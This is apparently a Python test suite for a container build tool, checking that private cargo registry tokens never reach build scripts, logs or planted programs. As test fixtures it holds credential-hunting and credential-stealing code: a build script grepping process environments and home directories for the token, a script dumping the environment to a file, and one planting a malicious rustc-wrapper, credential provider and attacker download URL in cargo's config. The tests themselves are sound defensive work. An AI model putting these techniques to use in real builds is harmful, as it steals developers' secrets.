# engines: docker
# engines with --full: podman
"""slipway cargo with private registries: what is fetched with a token, and who never sees it."""

import os
import signal
import subprocess
import threading

from cross_roads import tar_of
from private_registry import ADDRESS, Registry
from support import SLIPWAY, Case, api, main, remove_image, wait_for

HOST = "x86_64-unknown-linux-gnu"
IMAGE = "slipway-test/registries:cargo"
# The recent cargo of Slipway's own images; that of the release knows no such registry.
DOCKERFILE = """FROM debian:bookworm-slim
RUN apt-get update && apt-get install -y --no-install-recommends cargo-web rustc-web gcc libc6-dev \\
 && rm -rf /var/lib/apt/lists/*
"""
TOKEN = "sekrit-4f3ac9d1"
WRONG = "sekrit-7e00b2aa"
# All that a build script may look at; the word is in no file that has this program.
SEARCH = r"""use std::{env, fs, process::Command};
fn main() {
    let script = r#"env; whole=$(printf 'sekr%s' it-)
        for d in /tmp /opt /var /dev/shm /proc/[0-9]*/environ /proc/[0-9]*/cmdline "$CARGO_HOME" "$LOOK"; do
        grep -rlsaF -- "$whole" "$d" | sed 's/^/FOUND /'; done; true"#;
    let said = Command::new("sh").args(["-c", script]).output().unwrap().stdout;
    let out = env::var("OUT_DIR").unwrap();
    fs::write(format!("{out}/report"), said).unwrap();
}
"""
REPORT = 'pub const REPORT: &str = include_str!(concat!(env!("OUT_DIR"), "/report"));\n'
MAIN = REPORT + 'fn main() { println!("{}\\nANSWER {}", REPORT, dep::answer()); print!("{}", dep::REPORT); }\n'
STEAL = r"""#!/bin/sh
(echo "stolen by $0 $*"; env) >> "$(dirname "$0")/stolen"
case $1 in *rustc*) exec "$@";; esac
echo '{"v":[1]}'
"""
# A build script that leaves in cargo's home what a later cargo would run or believe.
PLANT = r"""use std::{env, fs, os::unix::fs::PermissionsExt, path::Path};
fn main() {
    let home = env::var("CARGO_HOME").unwrap();
    let steal = format!("{home}/steal");
    fs::write(&steal, include_str!("steal")).unwrap();
    fs::set_permissions(&steal, fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(format!("{home}/config.toml"), format!("[build]\nrustc-wrapper = '{steal}'\n\
[registry]\nglobal-credential-providers = ['{steal}']\n\
[registries.my-own]\ncredential-provider = ['{steal}']\n[alias]\nfetch = ['version']\n")).unwrap();
    fs::write(format!("{home}/credentials.toml"), "[registries.my-own]\ntoken = 'planted'\n").unwrap();
    for entry in fs::read_dir(format!("{home}/registry/index")).unwrap() {
        let config = entry.unwrap().path().join("config.json");
        fs::write(&config, r#"{"dl": "EVIL/dl", "auth-required": true}"#).unwrap();
        println!("cargo:warning=planted {}", config.display());
    }
    let _ = Path::new("");
}
"""


class Registries(Case):
    @classmethod
    def setUpClass(cls):
        said = api("POST", "/build", tar_of(Dockerfile=DOCKERFILE), "application/x-tar", t=IMAGE,
                   rm="true", forcerm="true")
        cls.addClassCleanup(remove_image, IMAGE)
        if b"errorDetail" in (said if isinstance(said, bytes) else str(said).encode()):
            raise AssertionError(said)

    def setUp(self):
        super().setUp()
        self.registry = self.new_registry()
        self.add("dep", 'pub fn answer() -> u32 { 42 }\n' + REPORT, **{"build.rs": SEARCH})
        self.home = self.dir / "cargo-home"
        self.home.mkdir()
        self.config(f"[registries.my-own]\nindex = '{self.registry.index}'\n")
        self.credentials(f"[registries.my-own]\ntoken = '{TOKEN}'\n")
        self.project = self.dir / "project"
        (self.project / "src").mkdir(parents=True)
        (self.project / "src/main.rs").write_text(MAIN)
        (self.project / "build.rs").write_text(SEARCH)
        (self.project / "Cross.toml").write_text(f"[target.{HOST}]\nimage = '{IMAGE}'\n")
        self.depend("dep")

    def new_registry(self, **options):
        registry = Registry(TOKEN, **options)
        self.addCleanup(registry.close)
        return registry

    def add(self, name, text, **files):
        self.registry.add(name, {"src/lib.rs": text, **files})

    def config(self, text):
        (self.home / "config.toml").write_text(text)

    def credentials(self, text):
        (self.home / "credentials.toml").write_text(text)

    def depend(self, *names):
        (self.project / "Cargo.toml").write_text(
            "[package]\nname = 'app'\nversion = '0.1.0'\nedition = '2021'\n[workspace]\n[dependencies]\n"
            + "".join(f"{name} = {{ version = '1', registry = 'my-own' }}\n" for name in names))

    def variables(self, **extra):
        extra.setdefault("CARGO_HOME", str(self.home))
        return self.environment(LOOK=str(self.project), **extra)

    def cargo(self, *args, files="auto", **variables):
        return self.slipway("-v", "--files", files, "cargo", *args, cwd=self.project,
                            env=self.variables(**variables))

    def assert_no_token(self, *texts):
        for text in texts:
            self.assertNotIn("sekrit-", text)
            self.assertNotIn("FOUND", text)

    def in_cargo_home(self, script):
        """By a container of our own, past the program under test."""
        volume, = {v["Name"] for v in api("GET", "/volumes")["Volumes"]
                   if (v.get("Labels") or {}).get("org.slipway.purpose") == "cargo"
                   and v["Name"] not in self.kept_before}
        said = subprocess.run(
            [SLIPWAY, "cargo", "--version"], cwd=self.project, env=self.variables(),
            stdout=subprocess.PIPE, timeout=60)
        self.assertEqual(said.returncode, 0)
        for container in self.sandboxes():
            mounts = {m.get("Name") for m in container["Mounts"]}
            if volume in mounts:
                return self.in_container(container["Id"], script)
        raise AssertionError("no sandbox has " + volume)

    def in_container(self, container, script):
        import json
        made = api("POST", f"/containers/{container}/exec", json.dumps(
            {"AttachStdout": True, "AttachStderr": True, "Tty": True, "Cmd": ["sh", "-c", script]}))
        said = api("POST", f"/exec/{made['Id']}/start", json.dumps({"Detach": False, "Tty": True}))
        return said.decode() if isinstance(said, bytes) else str(said or "")

    def build(self, files="auto", **variables):
        first = self.assert_ok(self.cargo("run", files=files, **variables))
        self.assertIn("ANSWER 42", first.stdout)
        self.assert_no_token(first.stdout, first.stderr)
        self.assertEqual(self.registry.tokens_seen(), {TOKEN})
        self.assertTrue((self.project / "Cargo.lock").exists())
        return first


class Builds(Registries):
    def check(self, files):
        said = self.build(files)
        self.assertEqual(said.stderr.count("Downloading crates"), 1, said.stderr)
        before = len(self.registry.requests)
        (self.project / "src/main.rs").write_text(MAIN + "// edited\n")
        again = self.assert_ok(self.cargo("run", files=files))
        self.assert_no_token(again.stdout, again.stderr)
        self.assertEqual(self.registry.requests[before:], [])  # nothing was left to fetch
        self.registry.close()
        (self.project / "build.rs").write_text(SEARCH + "// edited\n")
        off = self.assert_ok(self.cargo("run", "--offline", files=files))
        self.assertIn("ANSWER 42", off.stdout)
        self.assert_no_token(off.stdout, off.stderr)
        self.assert_no_token(self.in_cargo_home("grep -rlaF sekrit- /opt/slipway /tmp | sed s/^/FOUND/"))
        return said

    def test_a_bound_workspace(self):
        self.assertIn("with the workspace bound", self.check("bind").stderr)

    def test_a_copied_workspace(self):
        self.assertIn("src/main.rs", str(list(self.project.rglob("*"))))
        self.check("sync")

    def test_without_the_agent(self):
        self.build(SLIPWAY_AGENT="0")

    def test_variables_win_over_files(self):
        self.credentials(f"[registries.my-own]\ntoken = '{WRONG}'\n")
        self.config("[registries.my-own]\nindex = 'sparse+http://127.0.0.1:1/'\n")
        self.build(CARGO_REGISTRIES_MY_OWN_TOKEN=TOKEN, CARGO_REGISTRIES_MY_OWN_INDEX=self.registry.index)

    def test_the_workspace_defines_the_registry(self):
        self.config("")
        (self.project / ".cargo").mkdir()
        (self.project / ".cargo/config.toml").write_text(
            f"[registries.my-own]\nindex = '{self.registry.index}'\n")
        self.build()

    def test_the_command_that_only_asks_the_registry_is_the_step(self):
        self.build()
        self.registry.add("dep", {"src/lib.rs": "pub fn answer() -> u32 { 43 }\npub const REPORT: &str = \"\";\n"},
                          version="1.1.0")
        said = self.assert_ok(self.cargo("update"))
        self.assertRegex(said.stderr, r"Updating dep v1.0.0 .*-> v1.1.0")
        self.assertIn("ANSWER 43", self.assert_ok(self.cargo("run")).stdout)
        self.add("more", "")
        self.assert_ok(self.cargo("add", "--registry", "my-own", "more"))
        self.assertIn("more", (self.project / "Cargo.toml").read_text())
        self.assert_ok(self.cargo("build"))
        self.assertIn("more", (self.project / "Cargo.lock").read_text())

    def test_nothing_more_runs_without_a_private_registry(self):
        self.depend()
        (self.project / "src/main.rs").write_text("fn main() {}\n")
        self.assert_ok(self.cargo("build"))
        self.assertEqual(self.registry.requests, [])


class Secrets(Registries):
    def check_planted(self, files):
        evil = Registry("nobody's")
        self.addCleanup(evil.close)
        (self.project / "build.rs").write_text(PLANT.replace("EVIL", evil.base).replace('"steal"', '"steal.sh"'))
        (self.project / "steal.sh").write_text(STEAL)
        (self.project / "src/main.rs").write_text("fn main() { println!(\"{}\", dep::answer()); }\n")
        first = self.assert_ok(self.cargo("build", files=files))
        self.assertIn("planted", first.stderr)
        self.add("more", "")
        self.depend("dep", "more")
        said = self.cargo("fetch", files=files)
        self.assert_ok(said)
        ran = self.in_cargo_home("ls /opt/slipway/cargo")
        self.assertIn("steal", ran)
        self.assertNotIn("stolen", ran)  # neither before the step nor in it
        self.add("third", "")
        self.depend("dep", "more", "third")
        (self.project / "build.rs").write_text("fn main() {}\n")
        later = self.cargo("build", files=files)
        self.assert_no_token(first.stderr, said.stderr, later.stderr)
        self.assertEqual(self.registry.tokens_seen(), {TOKEN})
        self.assertEqual({p for p, _ in self.registry.requests if "/dl/third" in p}, {"/dl/third/1.0.0/download"})
        self.assertEqual(evil.requests, [])
        stolen = self.in_cargo_home("cat /opt/slipway/cargo/stolen; echo; ls /opt/slipway/cargo")
        self.assertIn("stolen by", stolen)  # the command itself believes its home, and has no token
        self.assert_no_token(stolen)

    def test_what_a_build_script_has_planted_gets_no_token(self):
        self.check_planted("bind")

    def test_and_with_a_copy(self):
        self.check_planted("sync")

    def test_a_wrong_token_is_cargos_to_tell_once(self):
        self.credentials(f"[registries.my-own]\ntoken = '{WRONG}'\n")
        result = self.cargo("build")
        self.assertEqual(result.returncode, 101, result.stderr)
        self.assertEqual(result.stderr.count("401"), 1, result.stderr)
        self.assertNotIn("Compiling", result.stderr)
        self.assert_no_token(result.stdout, result.stderr)

    def test_without_a_token_it_is_cargos_affair(self):
        (self.home / "credentials.toml").unlink()
        result = self.cargo("build")
        self.assertEqual(result.returncode, 101, result.stderr)
        self.assertIn("authenticated registries require a credential-provider", result.stderr)

    def test_tokens_of_other_registries_stay_here(self):
        other = self.new_registry()
        self.config(f"[registries.my-own]\nindex = '{self.registry.index}'\n"
                    f"[registries.other]\nindex = '{other.index}'\n")
        self.credentials(f"[registries.my-own]\ntoken = '{TOKEN}'\n[registries.other]\ntoken = '{WRONG}'\n")
        (self.project / ".cargo").mkdir()
        (self.project / ".cargo/config.toml").write_text(
            "[build]\nrustc = './see'\n")
        (self.project / "see").write_text('#!/bin/sh\nenv | cut -d= -f1,2 >> "$LOOK_OUT/seen"\nexec rustc "$@"\n')
        (self.project / "see").chmod(0o755)
        (self.project / "Cross.toml").write_text(
            f"[build.env]\npassthrough = ['LOOK_OUT={self.project}']\n[target.{HOST}]\nimage = '{IMAGE}'\n")
        self.assert_ok(self.cargo("fetch"))
        seen = (self.project / "seen").read_text()
        self.assertIn(TOKEN, seen)  # what the workspace asks for is done
        self.assertNotIn(WRONG, seen)
        self.assertEqual(other.requests, [])

    def test_a_kill_leaves_no_token(self):
        self.registry.close()
        self.registry = self.new_registry(stall=threading.Event())
        self.config(f"[registries.my-own]\nindex = '{self.registry.index}'\n")
        self.add("dep", "pub fn answer() -> u32 { 42 }\n" + REPORT, **{"build.rs": SEARCH})
        process = subprocess.Popen([SLIPWAY, "cargo", "build"], cwd=self.project, env=self.variables(),
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        wait_for(lambda: any("/dl/" in path for path, _ in self.registry.requests), 60)
        os.kill(process.pid, signal.SIGKILL)
        process.wait()
        self.assert_no_token(self.in_cargo_home(
            "grep -rlaF sekrit- /opt/slipway /tmp /proc/[0-9]*/environ | sed s/^/FOUND/; ls -a /tmp"))
        self.registry.stall.set()
        self.assert_ok(self.cargo("run"))

    def test_an_interrupt_in_the_step(self):
        self.registry.close()
        self.registry = self.new_registry(stall=threading.Event())
        self.config(f"[registries.my-own]\nindex = '{self.registry.index}'\n")
        self.add("dep", "pub fn answer() -> u32 { 42 }\n" + REPORT, **{"build.rs": SEARCH})
        process = subprocess.Popen([SLIPWAY, "cargo", "build"], cwd=self.project, env=self.variables(),
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        wait_for(lambda: any("/dl/" in path for path, _ in self.registry.requests), 60)
        process.send_signal(signal.SIGINT)
        _, said = process.communicate(timeout=30)
        self.assertEqual(process.returncode, 130, said)
        self.assertNotIn("Compiling", said)


class Mistakes(Registries):
    def test_they_are_named_without_the_token(self):
        for file, text, error in (
                ("config.toml", "registries = 5", r"config\.toml:1:14: registries is no table"),
                ("config.toml", "[registries.my-own]\nindex = 5", r"config\.toml:2:9: registries\.my-own\.index is no text"),
                ("credentials.toml", f"[registries.my-own]\ntoken = ['{TOKEN}']", r"credentials\.toml:2:9: .* is no text"),
                ("credentials.toml", f"[registries.my-own]\ntoken = {TOKEN}\n", r"credentials\.toml:2:\d+: ")):
            with self.subTest(text=text):
                self.config("")
                self.credentials("")
                (self.home / file).write_text(text)
                result = self.cargo("build")
                self.assert_error(result, 2, error, ".")
                self.assert_no_token(result.stderr)
        self.assertEqual(self.new_containers(), [])

    def test_two_indexes_of_one_name(self):
        (self.project / ".cargo").mkdir()
        (self.project / ".cargo/config.toml").write_text(
            "[registries.my-own]\nindex = 'sparse+http://elsewhere/'\n")
        self.assert_error(self.cargo("build"), 2, "my-own has an index at .*another one", "rename")


if __name__ == "__main__":
    main()
